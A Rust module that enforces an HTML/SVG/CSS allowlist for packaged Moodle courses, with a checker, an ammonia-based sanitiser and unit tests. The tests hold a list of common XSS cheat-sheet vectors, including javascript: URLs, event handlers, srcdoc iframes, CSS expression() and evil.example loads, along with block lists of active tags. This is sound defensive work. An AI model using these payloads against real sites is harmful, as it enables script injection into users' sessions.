//! The HTML policy of a course without `allow_scripts`: no page, quiz text or carried HTML,
//! SVG or CSS file can run script or load anything from outside the package. Moodle serves
//! a package from its own origin, so script in a page is script in the learner's LMS session.
//!
//! One allowlist serves two ends. [`check`] reads each piece of HTML as its author wrote it
//! and reports, with its place, every construct that runs script or loads from outside
//! (refused: an error) and every element or attribute outside the allowlist (left out: a
//! warning). [`sanitize`] then gives the page HTML to ammonia with that same allowlist, so
//! whatever a parser differential might hide from the check is still removed. Text that goes
//! into HTML (by the templates, or the media players the Markdown stage writes) is escaped by
//! [`escape_html`].

use ammonia::Builder;
use std::borrow::Cow;
use std::collections::{HashMap, HashSet};
use std::sync::LazyLock;

/// HTML elements a page may contain: text, tables, figures, media and course-local frames.
const HTML_TAGS: &[&str] = &[
    "a",
    "abbr",
    "address",
    "article",
    "aside",
    "audio",
    "b",
    "bdi",
    "bdo",
    "blockquote",
    "br",
    "button",
    "caption",
    "center",
    "cite",
    "code",
    "col",
    "colgroup",
    "data",
    "dd",
    "del",
    "details",
    "dfn",
    "div",
    "dl",
    "dt",
    "em",
    "figcaption",
    "figure",
    "footer",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "header",
    "hgroup",
    "hr",
    "i",
    "iframe",
    "img",
    "input",
    "ins",
    "kbd",
    "label",
    "li",
    "main",
    "mark",
    "nav",
    "ol",
    "p",
    "picture",
    "pre",
    "q",
    "rp",
    "rt",
    "ruby",
    "s",
    "samp",
    "section",
    "small",
    "source",
    "span",
    "strike",
    "strong",
    "sub",
    "summary",
    "sup",
    "table",
    "tbody",
    "td",
    "tfoot",
    "th",
    "thead",
    "time",
    "tr",
    "track",
    "tt",
    "u",
    "ul",
    "var",
    "video",
    "wbr",
];

/// SVG elements for drawn figures; no script, no animation (it can rewrite links), no
/// `foreignObject`.
const SVG_TAGS: &[&str] = &[
    "svg",
    "g",
    "path",
    "rect",
    "circle",
    "ellipse",
    "line",
    "polyline",
    "polygon",
    "text",
    "tspan",
    "textPath",
    "defs",
    "use",
    "symbol",
    "title",
    "desc",
    "marker",
    "linearGradient",
    "radialGradient",
    "stop",
    "clipPath",
    "mask",
    "pattern",
    "image",
    "filter",
    "feBlend",
    "feColorMatrix",
    "feComposite",
    "feDropShadow",
    "feFlood",
    "feGaussianBlur",
    "feMerge",
    "feMergeNode",
    "feOffset",
    "metadata",
];

/// MathML Core, which the Markdown stage writes for `$…$` and authors may write by hand:
/// browsers and screen readers read it natively, with no script.
const MATHML_TAGS: &[&str] = &[
    "math",
    "semantics",
    "annotation",
    "merror",
    "mfrac",
    "mi",
    "mmultiscripts",
    "mn",
    "mo",
    "mover",
    "mpadded",
    "mphantom",
    "mprescripts",
    "mroot",
    "mrow",
    "ms",
    "mspace",
    "msqrt",
    "mstyle",
    "msub",
    "msubsup",
    "msup",
    "mtable",
    "mtd",
    "mtext",
    "mtr",
    "munder",
    "munderover",
    "menclose",
];

const MATHML_ATTRIBUTES: &[&str] = &[
    "display",
    "displaystyle",
    "scriptlevel",
    "mathvariant",
    "mathsize",
    "stretchy",
    "symmetric",
    "largeop",
    "movablelimits",
    "accent",
    "accentunder",
    "linethickness",
    "lspace",
    "rspace",
    "minsize",
    "maxsize",
    "form",
    "fence",
    "separator",
    "depth",
    "voffset",
    "columnalign",
    "rowalign",
    "columnspan",
    "rowspan",
    "columnlines",
    "rowlines",
    "columnspacing",
    "rowspacing",
    "notation",
    "encoding",
    "alttext",
    "xmlns",
];

/// Attributes any element may carry (besides `data-*` and `aria-*`).
const GENERIC_ATTRIBUTES: &[&str] = &[
    "class", "id", "title", "lang", "dir", "role", "hidden", "tabindex", "style", "width",
    "height", "align", "valign",
];

const ATTRIBUTE_PREFIXES: &[&str] = &["data-", "aria-"];

/// Attributes of particular elements.
const TAG_ATTRIBUTES: &[(&str, &[&str])] = &[
    (
        "a",
        &[
            "href", "target", "rel", "download", "hreflang", "type", "name",
        ],
    ),
    ("img", &["src", "alt", "loading", "decoding"]),
    (
        "video",
        &[
            "src",
            "poster",
            "controls",
            "preload",
            "loop",
            "muted",
            "autoplay",
            "playsinline",
        ],
    ),
    (
        "audio",
        &["src", "controls", "preload", "loop", "muted", "autoplay"],
    ),
    ("source", &["src", "type", "media"]),
    ("track", &["kind", "src", "srclang", "label", "default"]),
    (
        "iframe",
        &[
            "src",
            "allow",
            "allowfullscreen",
            "loading",
            "referrerpolicy",
            "sandbox",
            "name",
        ],
    ),
    ("td", &["colspan", "rowspan", "headers"]),
    ("th", &["colspan", "rowspan", "headers", "scope", "abbr"]),
    ("col", &["span"]),
    ("colgroup", &["span"]),
    ("ol", &["start", "reversed", "type"]),
    ("li", &["value"]),
    ("details", &["open"]),
    ("time", &["datetime"]),
    ("data", &["value"]),
    ("del", &["cite", "datetime"]),
    ("ins", &["cite", "datetime"]),
    ("blockquote", &["cite"]),
    ("q", &["cite"]),
    ("input", &["type", "checked", "disabled"]),
    ("label", &["for"]),
    ("button", &["type", "disabled"]),
    (
        "svg",
        &[
            "viewBox",
            "xmlns",
            "version",
            "preserveAspectRatio",
            "x",
            "y",
        ],
    ),
    ("use", &["href", "x", "y"]),
    ("image", &["href", "x", "y", "preserveAspectRatio"]),
];

/// Presentation attributes of every SVG element.
const SVG_ATTRIBUTES: &[&str] = &[
    "d",
    "x",
    "y",
    "x1",
    "y1",
    "x2",
    "y2",
    "cx",
    "cy",
    "r",
    "rx",
    "ry",
    "dx",
    "dy",
    "points",
    "transform",
    "fill",
    "fill-opacity",
    "fill-rule",
    "stroke",
    "stroke-width",
    "stroke-linecap",
    "stroke-linejoin",
    "stroke-dasharray",
    "stroke-dashoffset",
    "stroke-opacity",
    "opacity",
    "font-family",
    "font-size",
    "font-weight",
    "font-style",
    "text-anchor",
    "dominant-baseline",
    "offset",
    "stop-color",
    "stop-opacity",
    "gradientUnits",
    "gradientTransform",
    "clip-path",
    "clip-rule",
    "mask",
    "marker-start",
    "marker-mid",
    "marker-end",
    "markerWidth",
    "markerHeight",
    "markerUnits",
    "refX",
    "refY",
    "orient",
    "patternUnits",
    "patternTransform",
    "filter",
    "stdDeviation",
    "in",
    "in2",
    "result",
    "mode",
    "flood-color",
    "flood-opacity",
    "values",
    "operator",
    "visibility",
    "display",
    "color",
    "letter-spacing",
    "startOffset",
    "textLength",
    "lengthAdjust",
];

/// Elements whose only purpose is to run or embed active content, or to change how every
/// link or the page itself is loaded: refused, never merely left out.
const ACTIVE_TAGS: &[&str] = &[
    "script",
    "object",
    "embed",
    "applet",
    "base",
    "frame",
    "frameset",
    "portal",
    "link",
    "foreignobject",
    "animate",
    "set",
    "animatemotion",
    "animatetransform",
    "handler",
    "listener",
    "xss",
    "import",
];

/// URL schemes that run script where a URL is followed.
const SCRIPT_SCHEMES: &[&str] = &["javascript", "vbscript", "livescript", "mocha"];

/// What [`check`] found, with its byte offset in the checked text.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Finding {
    pub offset: usize,
    pub verdict: Verdict,
    /// Names the construct and what it would do: "event handler `onerror` on `<img>` runs
    /// script".
    pub message: String,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Verdict {
    /// Runs script or loads from outside the package: an error.
    Refused,
    /// Outside the allowlist but harmless: removed from the page, with a warning.
    LeftOut,
}

/// What is being checked: HTML that goes into a page (and is sanitised after), or a whole
/// HTML, SVG or XML file the package carries as it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    Page,
    CarriedFile,
}

/// Reports every construct of `html` that the policy refuses or leaves out (for a carried
/// file, only what it refuses: the file is carried unchanged).
pub fn check(html: &str, source: Source) -> Vec<Finding> {
    use lol_html::html_content::{Comment, Element, TextChunk};
    use lol_html::{RewriteStrSettings, doc_comments, element, rewrite_str, text};
    let findings = std::cell::RefCell::new(Vec::new());
    let style_text = std::cell::RefCell::new((0usize, String::new()));
    let on_element = |el: &mut Element| {
        check_element(el, source, &mut findings.borrow_mut());
        Ok(())
    };
    let on_style = |chunk: &mut TextChunk| {
        let mut style = style_text.borrow_mut();
        if style.1.is_empty() {
            style.0 = chunk.source_location().bytes().start;
        }
        style.1.push_str(chunk.as_str());
        if chunk.last_in_text_node() {
            let (offset, css) = std::mem::take(&mut *style);
            if let Some((at, problem)) = css_problem(&css) {
                findings.borrow_mut().push(refused(
                    offset + at,
                    format!("{problem} in a `<style>` element"),
                ));
            }
        }
        Ok(())
    };
    let on_comment = |comment: &mut Comment| {
        // `<?xml-stylesheet?>` reads as a comment to an HTML parser; an XSLT style sheet
        // runs script in an SVG or XML file opened on its own (in a page it stays a comment).
        if source == Source::CarriedFile
            && comment
                .text()
                .trim_start()
                .to_ascii_lowercase()
                .starts_with("?xml-stylesheet")
        {
            let offset = comment.source_location().bytes().start;
            findings.borrow_mut().push(refused(
                offset,
                "`<?xml-stylesheet?>` can run script through an XSLT style sheet".to_string(),
            ));
        }
        Ok(())
    };
    let settings = RewriteStrSettings::new()
        .append_element_content_handler(element!("*", on_element))
        .append_element_content_handler(text!("style", on_style))
        .append_document_content_handler(doc_comments!(on_comment));
    if let Err(err) = rewrite_str(html, settings) {
        findings
            .borrow_mut()
            .push(refused(0, format!("this HTML cannot be read ({err})")));
    }
    findings.into_inner()
}

fn refused(offset: usize, message: String) -> Finding {
    Finding {
        offset,
        verdict: Verdict::Refused,
        message,
    }
}

fn check_element(
    el: &lol_html::html_content::Element,
    source: Source,
    findings: &mut Vec<Finding>,
) {
    let offset = el.source_location().bytes().start;
    let tag = local_name(&el.tag_name()).to_ascii_lowercase();
    let mut push = |verdict, message: String| {
        findings.push(Finding {
            offset,
            verdict,
            message,
        })
    };
    // An element refused as a whole is one finding; its attributes go with it.
    if ACTIVE_TAGS.contains(&tag.as_str())
        && !(source == Source::CarriedFile && tag == "link" && link_is_local(el))
    {
        push(
            Verdict::Refused,
            format!("`<{tag}>` runs or embeds active content"),
        );
        return;
    } else if tag == "meta"
        && el
            .get_attribute("http-equiv")
            .is_some_and(|v| !v.eq_ignore_ascii_case("content-type"))
    {
        push(
            Verdict::Refused,
            "`<meta http-equiv>` can reload or redirect the page".to_string(),
        );
        return;
    }
    let tag_left_out = source == Source::Page && (tag == "style" || !is_allowed_tag(&tag));
    if tag == "style" && source == Source::Page {
        push(
            Verdict::LeftOut,
            "`<style>` is left out of the page: page styles belong in the theme".to_string(),
        );
    } else if source == Source::Page && !is_allowed_tag(&tag) {
        push(
            Verdict::LeftOut,
            format!("`<{tag}>` is not in the HTML allowlist and is left out (its text stays)"),
        );
    }
    for attribute in el.attributes() {
        let name = attribute.name();
        let local = local_name(&name).to_ascii_lowercase();
        let value = htmlize::unescape_attribute(attribute.value());
        let on = format!("`{name}` on `<{tag}>`");
        if is_event_handler(&local) {
            push(Verdict::Refused, format!("event handler {on} runs script"));
        } else if local == "srcdoc" {
            push(
                Verdict::Refused,
                format!("`srcdoc` on `<{tag}>` embeds a document that can run script"),
            );
        } else if let Some(scheme) = script_scheme(&value) {
            push(
                Verdict::Refused,
                format!("`{scheme}:` URL in {on} runs script"),
            );
        } else if local == "style"
            && let Some((_, problem)) = css_problem(&value)
        {
            push(
                Verdict::Refused,
                format!("{problem} in the `style` attribute of `<{tag}>`"),
            );
        } else if (tag == "animate" || tag == "set") && local == "attributename" {
            // Reported with the element itself.
        } else if loads(&tag, &local)
            && let Some(load) = outside_load(&value)
        {
            push(
                Verdict::Refused,
                format!("{on} loads `{load}` from outside the package"),
            );
        } else if source == Source::Page && !tag_left_out && !is_allowed_attribute(&tag, &name) {
            push(
                Verdict::LeftOut,
                format!("attribute {on} is not in the HTML allowlist and is left out"),
            );
        }
    }
}

/// `svg:script` and `xlink:href` by their local names, as the namespace-aware parsers of
/// SVG and XML files see them.
fn local_name(name: &str) -> &str {
    name.rsplit_once(':').map_or(name, |(_, local)| local)
}

fn link_is_local(el: &lol_html::html_content::Element) -> bool {
    let rel = el
        .get_attribute("rel")
        .unwrap_or_default()
        .to_ascii_lowercase();
    let href =
        htmlize::unescape_attribute(el.get_attribute("href").unwrap_or_default()).into_owned();
    rel.split_whitespace()
        .all(|r| matches!(r, "stylesheet" | "icon"))
        && outside_load(&href).is_none()
        && script_scheme(&href).is_none()
}

/// `onclick`, `onload`, `onbegin`: `on` and letters, as every event handler is named (any
/// such name is refused, known or not). Inkscape's `only_selected` is not one.
fn is_event_handler(local_name: &str) -> bool {
    local_name
        .strip_prefix("on")
        .is_some_and(|rest| rest.bytes().all(|b| b.is_ascii_alphabetic()))
}

fn is_allowed_tag(tag: &str) -> bool {
    HTML_TAGS.contains(&tag)
        || SVG_TAGS.iter().any(|t| t.eq_ignore_ascii_case(tag))
        || MATHML_TAGS.contains(&tag)
}

fn is_allowed_attribute(tag: &str, name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let listed = |names: &[&str]| names.iter().any(|n| n.eq_ignore_ascii_case(name));
    listed(GENERIC_ATTRIBUTES)
        || ATTRIBUTE_PREFIXES.iter().any(|p| lower.starts_with(p))
        || TAG_ATTRIBUTES
            .iter()
            .any(|(t, names)| t.eq_ignore_ascii_case(tag) && listed(names))
        || (SVG_TAGS.iter().any(|t| t.eq_ignore_ascii_case(tag)) && listed(SVG_ATTRIBUTES))
        || (MATHML_TAGS.contains(&tag) && listed(MATHML_ATTRIBUTES))
}

/// Whether following the URL in this attribute loads it into the page (as against a link the
/// learner may follow, or a citation).
fn loads(tag: &str, attribute: &str) -> bool {
    match attribute {
        "href" => !matches!(tag, "a" | "area"),
        "src" | "poster" | "data" | "background" | "srcset" | "lowsrc" | "dynsrc" | "codebase"
        | "archive" | "manifest" | "icon" | "ping" | "action" | "formaction" => true,
        _ => false,
    }
}

/// The URL the way a browser's URL parser reads it: surrounding spaces and control
/// characters dropped, tabs and newlines inside removed.
fn normalized_url(value: &str) -> String {
    value
        // A byte-order mark too: one HTML parser keeps it and another drops it, so both
        // must read the URL without it.
        .trim_matches(|c: char| c <= ' ' || c == '\u{feff}')
        .chars()
        .filter(|c| !matches!(c, '\t' | '\n' | '\r'))
        .collect::<String>()
        .to_ascii_lowercase()
}

/// The scheme of a URL that runs script when followed.
pub fn script_scheme(value: &str) -> Option<&'static str> {
    let url = normalized_url(value);
    SCRIPT_SCHEMES.iter().copied().find(|scheme| {
        url.strip_prefix(scheme)
            .is_some_and(|rest| rest.starts_with(':'))
    })
}

/// The scheme of an absolute URL (`https`, `data`…), as written; `None` for a relative one.
pub fn url_scheme(url: &str) -> Option<&str> {
    url.split_once(':').map(|(scheme, _)| scheme).filter(|s| {
        s.chars().next().is_some_and(|c| c.is_ascii_alphabetic())
            && s.chars()
                .all(|c| c.is_ascii_alphanumeric() || matches!(c, '+' | '-' | '.'))
    })
}

/// The URL when it points outside the package: another host, or a document or script as a
/// `data:` URL (images as `data:` are part of the page).
pub fn outside_load(value: &str) -> Option<String> {
    let url = normalized_url(value);
    let outside = match url_scheme(&url) {
        Some("data") => !url.starts_with("data:image/") || url.starts_with("data:image/svg"),
        Some(_) => true,
        None => url.starts_with("//") || url.starts_with("\\\\") || url.starts_with("/\\"),
    };
    outside.then(|| value.trim().chars().take(80).collect())
}

/// What in a piece of CSS could run script or load from outside, if anything, and its byte
/// offset.
pub fn css_problem(css: &str) -> Option<(usize, &'static str)> {
    // Lower case and comments blanked out byte for byte, so offsets stay those of `css`.
    let mut text = css.to_ascii_lowercase();
    while let Some(start) = text.find("/*") {
        let end = text[start + 2..]
            .find("*/")
            .map_or(text.len(), |e| start + 2 + e + 2);
        text.replace_range(start..end, &" ".repeat(end - start));
    }
    let first = |needles: &[&str]| needles.iter().filter_map(|n| text.find(n)).min();
    if let Some(at) = text.find('\\') {
        return Some((at, "a CSS escape, which can hide what the style loads,"));
    }
    if let Some(at) = first(&[
        "expression(",
        "behavior",
        "-moz-binding",
        "javascript:",
        "vbscript:",
    ]) {
        return Some((at, "script in CSS"));
    }
    if let Some(at) = text.find("@import") {
        return Some((at, "a CSS `@import`"));
    }
    let outside_url = css_urls(&text)
        .find(|(_, url)| outside_load(url).is_some())
        .map(|(at, _)| at);
    match (text.find("//"), outside_url) {
        (None, None) => None,
        (a, b) => Some((
            a.into_iter().chain(b).min().unwrap_or(0),
            "a CSS `url(…)` outside the package",
        )),
    }
}

/// The arguments of every `url(…)`, with the offset of each `url(`.
fn css_urls(css: &str) -> impl Iterator<Item = (usize, &str)> {
    css.match_indices("url(").map(|(at, _)| {
        let rest = &css[at + 4..];
        let inner = rest.split(')').next().unwrap_or("");
        (at, inner.trim().trim_matches(['"', '\'']))
    })
}

/// The page HTML with everything outside the allowlist removed (elements outside it keep
/// their text; `<script>` and `<style>` lose theirs).
pub fn sanitize(html: &str) -> String {
    SANITIZER.clean(html).to_string()
}

static SANITIZER: LazyLock<Builder<'static>> = LazyLock::new(|| {
    let mut tag_attributes: HashMap<&str, HashSet<&str>> = HashMap::new();
    for (tag, names) in TAG_ATTRIBUTES {
        tag_attributes.entry(tag).or_default().extend(names.iter());
    }
    for tag in SVG_TAGS {
        tag_attributes
            .entry(tag)
            .or_default()
            .extend(SVG_ATTRIBUTES.iter());
    }
    for tag in MATHML_TAGS {
        tag_attributes
            .entry(tag)
            .or_default()
            .extend(MATHML_ATTRIBUTES.iter());
    }
    let mut builder = Builder::empty();
    builder
        .tags(
            HTML_TAGS
                .iter()
                .chain(SVG_TAGS)
                .chain(MATHML_TAGS)
                .copied()
                .collect(),
        )
        .clean_content_tags(["script", "style"].into_iter().collect())
        .generic_attributes(GENERIC_ATTRIBUTES.iter().copied().collect())
        .generic_attribute_prefixes(ATTRIBUTE_PREFIXES.iter().copied().collect())
        .tag_attributes(tag_attributes)
        .url_schemes(
            ["http", "https", "mailto", "tel", "data"]
                .into_iter()
                .collect(),
        )
        .link_rel(None)
        // The render stage finds each quiz by the comment that stands in its place.
        .strip_comments(false)
        .attribute_filter(|element, attribute, value| {
            let unsafe_style = attribute == "style" && css_problem(value).is_some();
            let outside = loads(element, attribute) && outside_load(value).is_some();
            // ammonia's own scheme test reads some URLs differently from the check.
            let script = script_scheme(value).is_some();
            (!unsafe_style && !outside && !script).then(|| Cow::Owned(value.to_string()))
        });
    builder
});

/// Escapes what HTML needs escaped and nothing more: Tera's default also turns `/` into
/// `&#x2F;`, which makes every URL and page id in the output unreadable.
pub fn escape_html(text: &str) -> String {
    // Byte by byte: the five characters are ASCII, so slicing at them keeps UTF-8 whole, and
    // Tera calls this for every value it prints or tests in an `if`.
    let mut escaped = String::with_capacity(text.len());
    let mut rest = text;
    while let Some(i) = rest
        .bytes()
        .position(|b| matches!(b, b'&' | b'<' | b'>' | b'"' | b'\''))
    {
        escaped.push_str(&rest[..i]);
        escaped.push_str(match rest.as_bytes()[i] {
            b'&' => "&amp;",
            b'<' => "&lt;",
            b'>' => "&gt;",
            b'"' => "&quot;",
            _ => "&#39;",
        });
        rest = &rest[i + 1..];
    }
    escaped.push_str(rest);
    escaped
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn event_handlers_are_on_and_letters() {
        assert!(is_event_handler("onclick") && is_event_handler("onbegin"));
        assert!(is_event_handler("on"), "a bare `on` is refused too");
        assert!(!is_event_handler("only_selected") && !is_event_handler("one-way"));
    }

    #[test]
    fn html_escaping_touches_the_five_characters_only() {
        assert_eq!(escape_html(""), "");
        assert_eq!(escape_html("pages/a-b/c.html?x=1"), "pages/a-b/c.html?x=1");
        assert_eq!(
            escape_html("<a href=\"x\">Tom & Jerry's</a>"),
            "&lt;a href=&quot;x&quot;&gt;Tom &amp; Jerry&#39;s&lt;/a&gt;"
        );
        assert_eq!(
            escape_html("Ça «marche» & Україна>"),
            "Ça «marche» &amp; Україна&gt;"
        );
    }

    fn refused_constructs(html: &str, source: Source) -> Vec<String> {
        check(html, source)
            .into_iter()
            .filter(|f| f.verdict == Verdict::Refused)
            .map(|f| f.message)
            .collect()
    }

    /// Vectors from the common XSS cheat sheets: each must be refused by the check and gone
    /// after sanitising.
    const SCRIPT_VECTORS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=//xss.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
        "<img src=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">",
        "<a href=\"  JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"java\nscript:alert(1)\">x</a>",
        "<a href=\"javascript&colon;alert(1)\">x</a>",
        "<div onmouseover=\"alert(1)\">x</div>",
        "<details open ontoggle=alert(1)>",
        "<body onload=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
        "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
        "<svg><set attributeName=href to=javascript:alert(1) /></svg>",
        "<svg><foreignObject><iframe srcdoc=\"<script>alert(1)</script>\"></iframe></foreignObject></svg>",
        "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
        "<iframe src=\"data:text/html,<script>alert(1)</script>\"></iframe>",
        "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\"></object>",
        "<embed src=\"x.swf\">",
        "<form action=\"javascript:alert(1)\"><button>x</button></form>",
        "<button formaction=\"javascript:alert(1)\">x</button>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<base href=\"https://evil.example/\">",
        "<link rel=stylesheet href=\"https://evil.example/x.css\">",
        "<style>@import 'https://evil.example/x.css';</style>",
        "<style>body { background: url(https://evil.example/track.png) }</style>",
        "<div style=\"background:url(//evil.example/x)\">x</div>",
        "<div style=\"width: expression(alert(1))\">x</div>",
        "<div style=\"background:u\\72l(x)\">x</div>",
        "<img src=\"https://tracker.example/pixel.gif\" alt=\"\">",
        "<video poster=\"https://evil.example/p.png\"></video>",
        "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
        "<input type=image src=x onerror=alert(1)>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "<a href=\"\u{feff}javascript:alert(1)\">x</a>",
    ];

    #[test]
    fn cheat_sheet_vectors_are_refused_and_sanitised_away() {
        for vector in SCRIPT_VECTORS {
            let found = refused_constructs(vector, Source::Page);
            assert!(!found.is_empty(), "not refused: {vector}");
            let clean = sanitize(vector).to_ascii_lowercase();
            for mark in [
                "<script",
                "onerror",
                "onload",
                "ontoggle",
                "onmouseover",
                "javascript:",
                "vbscript:",
                "srcdoc",
                "<object",
                "<embed",
                "<meta",
                "<base",
                "<link",
                "evil.example",
                "tracker.example",
                "expression(",
                "data:text",
            ] {
                assert!(!clean.contains(mark), "{vector} sanitised to {clean}");
            }
        }
    }

    #[test]
    fn refusals_name_the_construct() {
        assert_eq!(
            refused_constructs("<img src=x onerror=alert(1)>", Source::Page),
            ["event handler `onerror` on `<img>` runs script"]
        );
        assert_eq!(
            refused_constructs(
                "<svg><a xlink:href=\"javascript:alert(1)\"></a></svg>",
                Source::Page
            ),
            ["`javascript:` URL in `xlink:href` on `<a>` runs script"]
        );
        assert_eq!(
            refused_constructs("<iframe srcdoc=x></iframe>", Source::Page),
            ["`srcdoc` on `<iframe>` embeds a document that can run script"]
        );
        assert_eq!(
            refused_constructs(
                "<p style=\"background: url('https://x.example/a.png')\">",
                Source::Page
            ),
            ["a CSS `url(…)` outside the package in the `style` attribute of `<p>`"]
        );
        assert_eq!(
            refused_constructs("<img src=\"//cdn.example/a.png\" alt=\"\">", Source::Page),
            ["`src` on `<img>` loads `//cdn.example/a.png` from outside the package"]
        );
    }

    #[test]
    fn ordinary_page_html_passes_unchanged_in_meaning() {
        let html = "<figure class=\"cp-media\"><video controls preload=\"metadata\" src=\"media/clip.mp4\" aria-label=\"Clip\"><track kind=\"captions\" src=\"media/clip.en.vtt\" srclang=\"en\" label=\"English\" default><a href=\"media/clip.mp4\">Clip</a></video></figure>\n<table><tr><th style=\"text-align: left\">A</th></tr></table><img src=\"data:image/png;base64,AAAA\" alt=\"dot\"><!--coursepack-quiz-0--><svg viewBox=\"0 0 10 10\"><circle cx=\"5\" cy=\"5\" r=\"4\" fill=\"red\"/></svg><iframe src=\"sim/index.html\" title=\"Simulation\"></iframe><a href=\"https://wcoomd.org\" target=\"_blank\">WCO</a>";
        assert_eq!(check(html, Source::Page), []);
        let clean = sanitize(html);
        for kept in [
            "<video controls=\"\" preload=\"metadata\" src=\"media/clip.mp4\" aria-label=\"Clip\">",
            "default=\"\"",
            "style=\"text-align: left\"",
            "data:image/png",
            "<!--coursepack-quiz-0-->",
            "viewBox=\"0 0 10 10\"",
            "<iframe src=\"sim/index.html\" title=\"Simulation\">",
            "href=\"https://wcoomd.org\" target=\"_blank\"",
        ] {
            assert!(clean.contains(kept), "lost {kept}: {clean}");
        }
    }

    #[test]
    fn unknown_harmless_markup_is_left_out_with_a_warning() {
        let found = check(
            "<marquee>hi</marquee><div markdown=\"1\">x</div>",
            Source::Page,
        );
        let left_out: Vec<&str> = found
            .iter()
            .filter(|f| f.verdict == Verdict::LeftOut)
            .map(|f| f.message.as_str())
            .collect();
        assert_eq!(
            left_out,
            [
                "`<marquee>` is not in the HTML allowlist and is left out (its text stays)",
                "attribute `markdown` on `<div>` is not in the HTML allowlist and is left out"
            ]
        );
        assert_eq!(sanitize("<marquee>hi</marquee>"), "hi");
    }

    #[test]
    fn carried_files_may_be_documents_but_not_run_script() {
        let page = "<!doctype html><html><head><meta charset=\"utf-8\"><title>Sim</title><link rel=\"stylesheet\" href=\"sim.css\"></head><body><p>ok</p></body></html>";
        assert_eq!(check(page, Source::CarriedFile), []);
        let svg = "<?xml version=\"1.0\"?>\n<?xml-stylesheet type=\"text/xsl\" href=\"x.xsl\"?>\n<svg xmlns=\"http://www.w3.org/2000/svg\"><svg:script>alert(1)</svg:script></svg>";
        assert_eq!(
            refused_constructs(svg, Source::CarriedFile),
            [
                "`<?xml-stylesheet?>` can run script through an XSLT style sheet",
                "`<script>` runs or embeds active content"
            ]
        );
    }

    #[test]
    fn finding_offsets_point_at_the_construct() {
        let html = "<p>ok</p>\n<p>\n<img src=x onerror=alert(1)></p>";
        let found = check(html, Source::Page);
        assert_eq!(found[0].offset, html.find("<img").unwrap());
    }
}
